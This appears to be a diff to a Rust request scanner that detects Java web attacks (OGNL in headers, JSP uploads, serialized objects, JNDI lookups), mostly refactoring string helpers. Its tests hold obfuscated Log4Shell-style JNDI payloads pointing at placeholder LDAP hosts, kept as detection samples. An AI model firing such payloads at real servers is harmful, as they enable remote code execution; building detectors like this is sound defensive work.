@@ -4,6 +4,7 @@
 
 use super::{has_word, Findings, INJECTION_SOURCES};
 use crate::detect::Lit as _;
+use crate::detect::Outlined as _;
 use crate::extract::ByteSet;
 use crate::extract::Prepared;
 use crate::model::{Category, Severity, Source};
@@ -87,11 +88,11 @@ fn qualified_class_name(v: &str) -> bool {
             };
             package.len() >= 2
                 && package.iter().all(|p| {
-                    p.starts_with(|c: char| c.is_ascii_lowercase())
+                    p.first_char().is_some_and(|c| c.is_ascii_lowercase())
                         && p.bytes()
                             .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'_')
                 })
-                && class.starts_with(|c: char| c.is_ascii_uppercase())
+                && class.first_char().is_some_and(|c| c.is_ascii_uppercase())
                 && class.bytes().any(|b| b.is_ascii_lowercase())
         })
 }
@@ -215,7 +216,7 @@ pub(crate) fn scan(p: &Prepared<'_>, out: &mut Findings) {
     }
     // Struts-style OGNL in Content-Type (not an inspected header by default).
     if let Some(ct) = p.headers.content_type {
-        if ognl(&ct.to_ascii_lowercase()) {
+        if ognl(&ct.ascii_lower()) {
             out.hit_request(
                 CAT,
                 "java.ognl",
@@ -240,8 +241,8 @@ pub(crate) fn is_upload_name(source: Source, name: &str) -> bool {
 
 /// A file name ending in `.jsp`/`.jspx` once the padding servers ignore is removed.
 fn jsp_file(l: &str) -> bool {
-    let name: String = l.chars().filter(|c| !c.is_whitespace()).collect();
-    let name = name.trim_end_matches(['.', '/', '\\', ':']);
+    let name: String = l.without_whitespace();
+    let name = name.trim_end_set(&['.', '/', '\\', ':']);
     name.ends_with(".jsp") || name.ends_with(".jspx")
 }
 
@@ -288,7 +289,7 @@ fn jdk_class(l: &str, set: &ByteSet) -> bool {
 
 /// Java serialization stream magic, raw or hex-encoded.
 fn serialized(v: &str) -> bool {
-    let l = v.to_ascii_lowercase();
+    let l = v.ascii_lower();
     l.has_lit("aced0005")
         || v.as_bytes()
             .windows(4)
@@ -426,7 +427,7 @@ fn substitute(inner: &str) -> Option<&str> {
     {
         rest
     } else if let Some(rest) = inner.strip_prefix("date:") {
-        rest.trim_matches('\'')
+        rest.trim_set(&['\''])
     } else {
         ""
     })
@@ -563,7 +564,7 @@ mod tests {
             "$${env:a:-${env:b:-$}{jndi:ldap://e/w}}}",
             "${${date:'j'}${upper:n}di:ldap://x}",
         ] {
-            assert!(jndi(&s.to_ascii_lowercase()), "{s}");
+            assert!(jndi(&s.ascii_lower()), "{s}");
         }
         assert!(!jndi("${user.name} costs $5"));
         assert!(!jndi("price: ${price}"));
